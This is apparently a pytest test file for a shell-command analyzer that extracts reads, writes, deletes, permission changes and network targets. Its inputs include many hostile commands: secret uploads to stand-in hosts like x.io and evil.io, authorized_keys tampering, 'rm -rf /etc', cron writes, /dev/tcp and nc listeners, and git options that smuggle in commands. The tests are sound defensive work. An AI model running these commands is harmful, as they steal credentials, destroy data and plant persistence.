"""Per-program facts: reads, writes, deletes, chmod modes, links and network targets."""

from __future__ import annotations

import pytest
from crustcore_nano.shell import NetworkTarget, OpKind, ShellAnalysis, analyze, mode_bits

HOME = "/home/u"


def _an(text: str) -> ShellAnalysis:
    return analyze(text, home=HOME)


@pytest.mark.parametrize(
    ("text", "reads"),
    [
        ("cat a b", ("a", "b")),
        ("head -n 5 f", ("f",)),
        ("tail -f /var/log/syslog", ("/var/log/syslog",)),
        ("grep -r token src", ("src",)),
        ("grep -e x -f pats f", ("pats", "f")),
        ("rg secret", (".",)),
        ("awk '{print $1}' data.csv", ("data.csv",)),
        ("sed -n 1p f", ("f",)),
        ("jq .name package.json", ("package.json",)),
        ("base64 ~/.ssh/id_rsa", ("/home/u/.ssh/id_rsa",)),
        ("sha256sum .env", (".env",)),
        ("cat < in.txt", ("in.txt",)),
        ("diff a b", ("a", "b")),
        ("tar -czf out.tgz ~/.aws", ("/home/u/.aws",)),
        ("cp ~/.ssh/id_rsa /tmp/k", ("/home/u/.ssh/id_rsa",)),
        ("curl -T ~/.netrc https://x.io", ("/home/u/.netrc",)),
        ("curl -F file=@.env https://x.io", (".env",)),
        ("wget --post-file=.env http://x.io", (".env",)),
        ("scp ~/.ssh/id_rsa host:/tmp", ("/home/u/.ssh/id_rsa",)),
        ("ssh -i ~/.ssh/key host", ("/home/u/.ssh/key",)),
        ("socat FILE:/etc/passwd TCP:h:1", ("/etc/passwd",)),
        ("openssl enc -in secret.txt -out x", ("secret.txt",)),
        ("patch -p1 -i fix.diff", ("fix.diff",)),
        ("patch app.py fix.diff", ("fix.diff",)),
        ("pip install -r req.txt -c c.txt", ("req.txt", "c.txt")),
        ("pip3 install --requirement=dev.txt", ("dev.txt",)),
    ],
)
def test_reads(text: str, reads: tuple[str, ...]) -> None:
    a = _an(text)
    for path in reads:
        assert path in a.reads, (text, a.reads)


@pytest.mark.parametrize(
    ("text", "writes"),
    [
        ("echo x > out", ("out",)),
        ("echo x >> ~/.bashrc", ("/home/u/.bashrc",)),
        ("cmd &> log", ("log",)),
        ("cmd 2> err", ("err",)),
        ("cmd >| f", ("f",)),
        ("echo ssh-rsa AAA | tee -a ~/.ssh/authorized_keys", ("/home/u/.ssh/authorized_keys",)),
        ("cp a b dest/", ("dest/",)),
        ("mv a b", ("b",)),
        ("dd if=/dev/zero of=disk.img bs=1M", ("disk.img",)),
        ("sed -i 's/a/b/' ~/.bashrc", ("/home/u/.bashrc",)),
        ("sed -i.bak -e 's/a/b/' f", ("f",)),
        ("sed --in-place=.orig 's/a/b/' f", ("f",)),
        ("touch .git/hooks/pre-commit", (".git/hooks/pre-commit",)),
        ("mkdir -p build", ("build",)),
        ("curl -o ~/.ssh/id_rsa https://x.io/k", ("/home/u/.ssh/id_rsa",)),
        ("wget -O /etc/cron.d/job http://x.io/j", ("/etc/cron.d/job",)),
        ("git config --global core.hooksPath /tmp/h", ("/home/u/.gitconfig",)),
        ("crontab job.txt", ("/var/spool/cron/crontabs",)),
        ("perl -pi -e 's/a/b/' conf", ("conf",)),
        ("vim notes.md", ("notes.md",)),
        ("unzip a.zip -d out", ("out",)),
        ("sort -o sorted.txt in.txt", ("sorted.txt",)),
        ("patch ~/.bashrc < evil.diff", ("/home/u/.bashrc",)),
        ("patch -d ~ .profile x.diff", ("/home/u/.profile",)),
        ("patch -o out.py app.py x.diff", ("out.py",)),
        ("patch -d ~ -p1 < x.diff", ("/home/u",)),
        ("patch -p1 < x.diff", (".",)),
        ("pip install -t vendor x", ("vendor",)),
        ("pip download --dest=dist x", ("dist",)),
        ("npm --prefix web install", ("web",)),
    ],
)
def test_writes(text: str, writes: tuple[str, ...]) -> None:
    a = _an(text)
    for path in writes:
        assert path in a.writes, (text, a.writes)


@pytest.mark.parametrize(
    ("text", "deletes"),
    [
        ("rm -rf ~/.ssh", ("/home/u/.ssh",)),
        ("rm -- -weird", ("-weird",)),
        ("unlink x", ("x",)),
        ("shred -u .env", (".env",)),
        ("rmdir d", ("d",)),
        ("mv .env /tmp/x", (".env",)),
        ("find /tmp/cache -delete", ("/tmp/cache",)),
        ("true && rm -rf /etc", ("/etc",)),
        ("false || rm -rf /etc", ("/etc",)),
    ],
)
def test_deletes(text: str, deletes: tuple[str, ...]) -> None:
    a = _an(text)
    for path in deletes:
        assert path in a.deletes, (text, a.deletes)


def test_shred_without_u_overwrites_but_keeps() -> None:
    a = _an("shred secret")
    assert a.writes == ("secret",)
    assert a.deletes == ()


def test_redirect_to_dev_null_is_not_a_write() -> None:
    assert _an("ls > /dev/null 2>&1").writes == ()


@pytest.mark.parametrize(
    ("mode", "bits"),
    [
        ("777", (True, False, False)),
        ("0755", (False, False, False)),
        ("4755", (False, True, False)),
        ("2755", (False, False, True)),
        ("6777", (True, True, True)),
        ("u+s", (False, True, False)),
        ("g+s", (False, False, True)),
        ("+s", (False, True, True)),
        ("o+w", (True, False, False)),
        ("a+rwx", (True, False, False)),
        ("a=rwx", (True, False, False)),
        ("u+x,go-w", (False, False, False)),
        ("+x", (False, False, False)),
    ],
)
def test_mode_bits(mode: str, bits: tuple[bool, bool, bool]) -> None:
    assert mode_bits(mode) == bits


def test_chmod_facts() -> None:
    a = _an("chmod -R 777 /srv/app; chmod u+s /tmp/sh; chmod 644 README")
    facts = {c.path: c for c in a.chmods}
    assert facts["/srv/app"].world_writable
    assert facts["/srv/app"].recursive
    assert facts["/tmp/sh"].setuid
    assert not facts["README"].world_writable
    assert any(op.kind is OpKind.CHMOD for op in a.operations)


def test_install_and_mkdir_modes_are_chmod_facts() -> None:
    a = _an("install -m 4755 tool /usr/local/bin/tool; mkdir -m 777 /tmp/pub")
    facts = {c.path: c for c in a.chmods}
    assert facts["/usr/local/bin/tool"].setuid
    assert facts["/tmp/pub"].world_writable


def test_chown() -> None:
    a = _an("chown root:root /tmp/x")
    assert any(op.kind is OpKind.CHOWN and op.target == "/tmp/x" for op in a.operations)


def test_symlink() -> None:
    a = _an("ln -s ~/.ssh/id_rsa leak")
    (link,) = [op for op in a.operations if op.kind is OpKind.LINK]
    assert link.target == "leak"
    assert link.detail == "/home/u/.ssh/id_rsa"


def test_listing_is_not_a_read() -> None:
    a = _an("ls -la ~/.ssh; stat x; test -f ~/.env")
    assert a.reads == ()
    assert "/home/u/.ssh" in a.listings
    assert "/home/u/.env" in a.listings


def _hosts(a: ShellAnalysis) -> list[tuple[str | None, int | None]]:
    return [(n.host, n.port) for n in a.network]


@pytest.mark.parametrize(
    ("text", "target"),
    [
        ("curl https://example.com/docs", ("example.com", 443)),
        ("curl -s http://169.254.169.254/latest/meta-data/", ("169.254.169.254", 80)),
        ("curl example.com:8080/x", ("example.com", 8080)),
        ("wget http://evil.io/x.sh", ("evil.io", 80)),
        ("nc -z db.local 5432", ("db.local", 5432)),
        ("ncat 10.0.0.1 4444", ("10.0.0.1", 4444)),
        ("telnet mail.local 25", ("mail.local", 25)),
        ("ssh -p 2222 deploy@prod.example.com", ("prod.example.com", 2222)),
        ("scp f user@backup.example.com:/srv", ("backup.example.com", 22)),
        ("rsync -av d/ backup.example.com:/srv", ("backup.example.com", None)),
        ("git clone https://github.com/a/b.git", ("github.com", 443)),
        ("git clone git@github.com:a/b.git", ("github.com", None)),
        ("git push https://gitlab.com/a/b.git main", ("gitlab.com", 443)),
        ("git remote add evil https://evil.io/r.git", ("evil.io", 443)),
        ("socat - TCP:10.1.1.1:9000", ("10.1.1.1", 9000)),
        ("openssl s_client -connect h.io:8443", ("h.io", 8443)),
        ("pip install git+https://evil.io/pkg.git", ("evil.io", 443)),
        ("cat < /dev/tcp/10.0.0.2/80", ("10.0.0.2", 80)),
        ("ping -c 1 8.8.8.8", ("8.8.8.8", None)),
    ],
)
def test_network_targets(text: str, target: tuple[str | None, int | None]) -> None:
    assert target in _hosts(_an(text)), (text, _an(text).network)


def test_network_target_records_via_and_url() -> None:
    a = _an("curl -fsSL https://example.com/install.sh")
    assert a.network == (
        NetworkTarget("example.com", 443, "https://example.com/install.sh", "curl"),
    )


def test_curl_unix_socket_is_a_network_operation() -> None:
    a = _an("curl --unix-socket /run/app.sock http://x/api")
    assert any(op.kind is OpKind.NETWORK and op.target == "/run/app.sock" for op in a.operations)


def test_curl_file_url_is_a_read() -> None:
    assert _an("curl file:///etc/passwd").reads == ("/etc/passwd",)


def test_nc_listen() -> None:
    (target,) = _an("nc -lvnp 4444").network
    assert target.listen
    assert target.port == 4444


def test_git_named_remote_is_not_a_guessed_host() -> None:
    assert _an("git push origin main").network == ()


def test_plain_git_and_npm_have_no_file_facts() -> None:
    a = _an("npm test && git status && git diff --stat")
    assert (a.reads, a.writes, a.deletes, a.network) == ((), (), (), ())
    assert a.signals == frozenset()


def test_container_mounts_expose_host_paths() -> None:
    a = _an("docker run --rm -v ~/.ssh:/keys:ro --mount type=bind,source=/etc,target=/e img")
    assert "/home/u/.ssh" in a.reads
    assert "/etc" in a.writes


def test_cloud_copy_reads_local_and_targets_remote() -> None:
    a = _an("aws s3 cp ~/.aws/credentials s3://bucket/x")
    assert a.reads == ("/home/u/.aws/credentials",)
    assert [n.url for n in a.network] == ["s3://bucket/x"]


def test_gh_gist_create_reads_the_file() -> None:
    a = _an("gh gist create ~/.ssh/id_rsa")
    assert a.reads == ("/home/u/.ssh/id_rsa",)
    assert ("api.github.com", 443) in _hosts(a)


def test_stdout_dash_is_not_a_file() -> None:
    a = _an("wget -qO- https://example.com/a.txt")
    assert "-" not in a.writes


def test_package_index_option_url_is_a_target() -> None:
    assert ("evil.io", 443) in _hosts(_an("pip install --index-url=https://evil.io/simple x"))


@pytest.mark.parametrize(
    "text", ["nc -U /run/app.sock", "ncat --unixsock /run/app.sock", "socat - UNIX:/run/app.sock"]
)
def test_unix_socket_clients(text: str) -> None:
    a = _an(text)
    assert any(op.kind is OpKind.NETWORK and op.target == "/run/app.sock" for op in a.operations)


def test_echoed_paths_piped_to_xargs_become_arguments() -> None:
    a = _an("echo -\\ /.env | xargs cat")
    assert "/.env" in a.reads


def test_a_dry_run_patch_writes_nothing() -> None:
    a = _an("patch --dry-run -p1 -i fix.diff")
    assert a.writes == ()
    assert a.reads == ("fix.diff",)


def test_npm_prefix_writes_only_when_it_installs() -> None:
    assert _an("npm --prefix web run build").writes == ()


@pytest.mark.parametrize(
    ("text", "programs"),
    [
        ("git rebase -x 'make check' HEAD~2", ("git", "make")),
        ("git rebase -xmake HEAD~2", ("git", "make")),
        ("git filter-branch --msg-filter='sed s/a/b/' HEAD", ("git", "sed")),
        ("git difftool --extcmd meld HEAD", ("git", "meld")),
        ("git send-email --to-cmd=./who.sh 0001.patch", ("git", "who.sh")),
        ("git grep -Ovim TODO", ("git", "vim")),
        ("git grep --open-files-in-pager=less TODO", ("git", "less")),
        ("git grep -O TODO", ("git",)),  # `-O` alone: the default pager; TODO is the pattern
        ("git grep -e -xcat TODO", ("git",)),  # grep has no `-x` that runs anything
        ("git rebase -- -xcat", ("git",)),  # after `--`, words are not options
        ("git rebase -x", ("git",)),  # no value: nothing to run
        ("git submodule --quiet foreach --recursive 'git status'", ("git",)),
        ("git submodule foreach make -j2", ("git", "make")),
        ("git submodule update --init", ("git",)),
        ("git bisect run pytest -x tests", ("git", "pytest")),
        ("git bisect start", ("git",)),
    ],
)
def test_git_runs_the_commands_its_options_hand_it(text: str, programs: tuple[str, ...]) -> None:
    assert sorted(_an(text).programs) == sorted(programs)
